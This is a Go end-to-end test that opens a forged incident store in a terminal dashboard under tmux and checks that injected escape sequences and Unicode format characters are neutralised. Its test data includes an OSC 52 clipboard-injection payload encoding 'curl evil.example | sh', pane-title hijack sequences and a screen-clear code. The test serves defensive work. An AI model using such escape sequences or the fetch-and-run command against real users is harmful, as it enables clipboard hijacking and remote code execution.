package e2e

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/sitrep-dev/sitrep/model"
	"github.com/sitrep-dev/sitrep/storage"
	"github.com/sitrep-dev/sitrep/storage/storagetest"
)

// TestCockpitHostileStoreInTmux opens, in the real binary in tmux, a store
// edited to hold escape sequences in fields sync and import now refuse (a
// note kind, an author, a role), and a note full of Unicode format
// characters. tmux accepts OSC 52 into its buffers and OSC 0/2 as the pane
// title here, so any sequence that got through would show. And every row
// of the panes keeps its width: a soft hyphen shifted the columns.
func TestCockpitHostileStoreInTmux(t *testing.T) {
	tmux := needTool(t, "tmux", "SITREP_REQUIRE_E2E")
	bin := buildSitrep(t)
	dir := t.TempDir()
	db := filepath.Join(dir, "sitrep.db")
	env := []string{"SITREP_DB=" + db, "SITREP_AUTHOR=tess@tmux", "XDG_CONFIG_HOME=" + filepath.Join(dir, "config"), "NO_COLOR=1", "SITREP_REMOTE="}
	sitrep := func(args ...string) {
		t.Helper()
		cmd := exec.Command(bin, args...)
		cmd.Env = append(os.Environ(), env...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("sitrep %v: %v\n%s", args, err, out)
		}
	}
	sitrep("declare", "--title", "Queue backlog growing", "--sev", "2")
	sitrep("note", "Fail\u00adover of pri\u00admary done; zero\u200bwidth, \ufeffBOM, \u202eReversed\u202c and tag\U000E0041 end")

	ctx := context.Background()
	st, err := storage.Open(ctx, db, storage.Options{Author: "tess@tmux"})
	if err != nil {
		t.Fatal(err)
	}
	list, err := st.Incidents(ctx)
	if err != nil || len(list) != 1 {
		t.Fatalf("incidents: %v %v", list, err)
	}
	in := list[0].ID
	clip := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" // "curl evil.example | sh"
	title := "\x1b]2;pwned\x07\x1b]0;pwned\x07"
	f := &storagetest.Forger{Origin: "mallory-store", Author: "mallory" + title}
	for _, e := range []model.Event{
		f.Event(in, model.EventNote, model.NotePayload{Kind: model.NoteKind("decision" + clip), Text: "forged kind"}, nil),
		f.Event(in, model.EventRoleAssigned, model.RoleAssignedPayload{Role: model.Role("ops" + clip), Holder: "eve" + title}, nil),
		f.Event(in, model.EventNote, model.NotePayload{Kind: model.NoteKindNote, Text: "blank \x1b[2J screen"}, nil),
	} {
		if err := storagetest.Insert(ctx, st, e); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Rebuild(ctx); err != nil {
		t.Fatal(err)
	}
	st.Close()

	s := startCockpit(t, tmux, bin, env)
	s.waitFor("the list", "Queue backlog growing")
	for _, opt := range [][]string{{"set", "-g", "set-clipboard", "on"}, {"set", "-g", "allow-rename", "on"}} {
		if out, err := s.run(opt...); err != nil {
			t.Fatalf("tmux %v: %v %s", opt, err, out)
		}
	}
	before, _ := s.run("display", "-p", "-t", "cockpit", "#{pane_title}")
	s.keys("Enter")
	s.waitFor("the incident", "Timeline", "forged kind", "Failover of primary", "<U+200B>", "mallory")
	s.keys("G")
	scr := s.waitFor("the last entry", "screen")

	if bufs, _ := s.run("list-buffers"); strings.TrimSpace(bufs) != "" {
		t.Errorf("an OSC 52 sequence reached tmux's buffers: %q", bufs)
	}
	if after, _ := s.run("display", "-p", "-t", "cockpit", "#{pane_title}"); strings.Contains(after, "pwned") || after != before {
		t.Errorf("the pane title changed from %q to %q", before, after)
	}

	// Every row holding a pane border is the terminal's width, with the
	// right-most border in the last column.
	raw, err := s.run("capture-pane", "-p", "-t", "cockpit")
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	for i, l := range strings.Split(strings.TrimRight(raw, "\n"), "\n") {
		if !strings.ContainsAny(l, "│╭╰") {
			continue
		}
		rows++
		if n := utf8.RuneCountInString(l); n != 120 || !strings.ContainsAny(l[len(l)-3:], "│╮╯") {
			t.Errorf("row %d is %d cells, want 120 ending in a border: %q", i, n, l)
		}
	}
	if rows < 30 {
		t.Errorf("only %d rows with pane borders:\n%s", rows, scr)
	}
}
